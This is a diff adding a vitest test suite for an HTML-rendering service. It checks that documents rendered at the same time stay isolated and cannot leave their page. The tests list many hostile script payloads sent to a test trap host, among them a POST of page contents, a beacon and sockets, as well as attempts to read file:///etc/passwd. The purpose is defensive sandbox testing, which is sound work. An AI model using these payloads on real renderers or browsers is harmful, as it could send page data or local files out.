@@ -1,0 +1,172 @@
+/** Documents among themselves: nothing of one reaches another, and none gets out of its page. */
+import { beforeAll, describe, expect, inject, it } from 'vitest'
+import type { Report } from '../../net/servers'
+import { applySchema } from '../../support/schema'
+import { render } from '../../support/service'
+
+const { site, trap } = inject('origins')
+const at = { base_url: `${site}/same/place` }
+
+beforeAll(() => applySchema())
+
+async function trapped(): Promise<string[]> {
+  return (await (await fetch(`${site}/report`)).json<Report>()).trapped
+}
+
+describe('documents', () => {
+  it('twenty at once each get their own text back', async () => {
+    const words = Array.from({ length: 20 }, (_, n) => `document-${n}-${crypto.randomUUID()}`)
+    const texts = await Promise.all(
+      words.map(async (word, n) => {
+        const html = n % 2 ? `<p>${word}` : `<p id="p"></p><script>p.textContent = '${word}'</script>`
+        return (await render(html)).text.trim()
+      }),
+    )
+    expect(texts).toEqual(words)
+  })
+
+  it('at one address leave nothing behind: no storage, cookie, cache, global or name', async () => {
+    const html = `<p id="p"></p><script>
+      const seen = []
+      const look = (name, read) => { try { const value = read(); if (value) seen.push(name + '=' + value) } catch {} }
+      look('local', () => { const old = localStorage.mark; localStorage.mark = 'left'; return old })
+      look('session', () => { const old = sessionStorage.mark; sessionStorage.mark = 'left'; return old })
+      look('cookie', () => { const old = document.cookie; document.cookie = 'mark=left;path=/'; return old })
+      look('global', () => { const old = window.mark; window.mark = 'left'; return old })
+      look('name', () => { const old = window.name; window.name = 'left'; return old })
+      setInterval(() => { document.title = 'ticked'; document.body.append('left by a timer') }, 1)
+      Array.prototype.map = () => 'left'
+      p.textContent = 'seen: [' + seen + ']'
+    </script>`
+    for (let round = 0; round < 3; round++) {
+      const { text } = await render(html, { options: at })
+      expect(text).toContain('seen: []')
+    }
+    const after = await render(
+      '<p>clean</p><script>document.body.append([1].map((n) => n + 1)[0])</script>',
+      {
+        options: at,
+      },
+    )
+    expect(after.text.trim().replace(/\s+/g, ' ')).toBe('clean 2')
+    expect(after.title ?? '').toBe('')
+  })
+
+  it('share no channel while they are open side by side', async () => {
+    const speaker = `<script>
+      try { const channel = new BroadcastChannel('platen'); setInterval(() => channel.postMessage('heard'), 5) } catch {}
+      try { setInterval(() => { localStorage.said = 'heard' }, 5) } catch {}</script>Speaker`
+    const listener = `<p id="p">silence</p><script>
+      const hear = () => { p.textContent = 'heard' }
+      try { new BroadcastChannel('platen').onmessage = hear } catch {}
+      addEventListener('storage', hear)
+      try { setInterval(() => { if (localStorage.said) hear() }, 5) } catch {}</script>`
+    const options = { ...at, wait_for: { ms: 500 } }
+    const [, heard] = await Promise.all([render(speaker, { options }), render(listener, { options })])
+    expect(heard.text.trim()).toBe('silence')
+  })
+})
+
+describe('a document that tries to leave', () => {
+  const escapes: [string, string][] = [
+    ['location', `location = '${trap}/location'`],
+    ['location.replace', `location.replace('${trap}/replace')`],
+    ['location.reload', 'location.reload()'],
+    ['a form', `document.forms[0].submit()`],
+    ['a form into a new window', `document.forms[0].target = '_blank'; document.forms[0].submit()`],
+    ['window.open', `open('${trap}/open'); open('${trap}/open', '_top')`],
+    ['a click on a link', 'document.links[0].click()'],
+    ['a click on a link into a new window', `document.links[0].target = '_blank'; document.links[0].click()`],
+    ['a ping', `document.links[0].ping = '${trap}/ping'; document.links[0].click()`],
+    ['history', `history.pushState(0, '', '#there'); history.back(); history.go(-2)`],
+    ['a beacon', `navigator.sendBeacon('${trap}/beacon', 'stolen')`],
+    [
+      'a frame',
+      `document.body.append(Object.assign(document.createElement('iframe'), { src: '${trap}/frame' }))`,
+    ],
+    [
+      'a frame with a document of its own',
+      `document.body.append(Object.assign(document.createElement('iframe'),
+        { srcdoc: '<script>top.location = "${trap}/top"; fetch("${trap}/srcdoc")<' + '/script>' }))`,
+    ],
+    [
+      'a frame’s own sockets',
+      `const frame = document.createElement('iframe'); document.body.append(frame)
+       for (const name of ['EventSource', 'WebTransport', 'WebSocket'])
+         try { new frame.contentWindow[name]((name === 'WebSocket' ? 'ws' : 'http') + '${trap.slice(4)}/socket') } catch {}`,
+    ],
+    ['a socket', `new WebSocket('${trap.replace('http', 'ws')}/socket')`],
+    ['events', `new EventSource('${trap}/events')`],
+    ['a worker', `new Worker(URL.createObjectURL(new Blob(['fetch("${trap}/worker")'])))`],
+    ['an import', `import('${trap}/module.js').catch(() => {})`],
+    [
+      'a request',
+      `fetch('${trap}/fetch', { method: 'POST', body: document.body.innerHTML }).catch(() => {})`,
+    ],
+    ['a style', `document.head.insertAdjacentHTML('beforeend', '<style>@import "${trap}/css"</style>')`],
+    [
+      'hints',
+      `for (const rel of ['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload', 'manifest'])
+        document.head.append(Object.assign(document.createElement('link'), { rel, href: '${trap}/' + rel, as: 'image' }))`,
+    ],
+    [
+      'speculation rules',
+      `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules',
+        textContent: '{"prerender":[{"source":"list","urls":["${trap}/rules"]}]}' }))`,
+    ],
+    [
+      'a peer connection',
+      `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(trap).host}' }] })
+       peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
+    ],
+    ['a dialogue', `alert('stop'); confirm('stop'); prompt('stop')`],
+    ['a print', 'print()'],
+  ]
+
+  it.each(escapes)('by %s stands as it was, and reaches no server', async (_, script) => {
+    const html = `<p>stays</p><form action="${trap}/form" method="post"><input name="a" value="1"></form>
+      <a href="${trap}/link">link</a><p>whole</p><script>try { ${script} } catch {}</script>`
+    const { text, pages } = await render(html, { options: { wait_for: { ms: 150 } } })
+    expect(pages).toHaveLength(1)
+    expect(text).toContain('stays')
+    expect(text).toContain('whole')
+    expect(await trapped()).toEqual([])
+  })
+
+  it('by a meta refresh stands as it was, and reaches no server', async () => {
+    const { text } = await render(`<meta http-equiv="refresh" content="0;url=${trap}/refresh"><p>stays</p>`, {
+      options: { wait_for: { ms: 300 } },
+    })
+    expect(text).toContain('stays')
+    expect(await trapped()).toEqual([])
+  })
+
+  it('while it is being read stands as it did then, with a warning', async () => {
+    const html = `<p>stays</p><script>location = '${trap}/early'</script>${'<p>much</p>'.repeat(2000)}`
+    const { text, headers } = await render(html)
+    expect(text).toContain('stays')
+    expect(headers.get('x-warnings')).toContain('tried to leave')
+    expect(await trapped()).toEqual([])
+  })
+
+  it('by opening windows without end leaves the next document alone', async () => {
+    await render(`<p>x</p><script>for (let n = 0; n < 500; n++) open('about:blank', 'w' + n)</script>`)
+    expect((await render('<p>next')).text.trim()).toBe('next')
+  })
+
+  it('by frames without end leaves the next document alone', async () => {
+    await render(
+      `<p>x</p><script>for (let n = 0; n < 300; n++) document.body.append(document.createElement('iframe'))</script>`,
+    )
+    expect((await render('<p>next')).text.trim()).toBe('next')
+  })
+
+  it('finds no file of this machine', async () => {
+    const html = `<p>stays</p><img src="file:///etc/passwd"><iframe src="file:///etc/passwd"></iframe>
+      <object data="file:///etc/passwd"></object><script>fetch('file:///etc/passwd').then((a) => a.text())
+      .then((t) => document.body.append(t), () => document.body.append('refused'))</script>`
+    const { text } = await render(html, { options: { wait_for: { ms: 150 } } })
+    expect(text).toContain('refused')
+    expect(text).not.toContain('root:')
+  })
+})
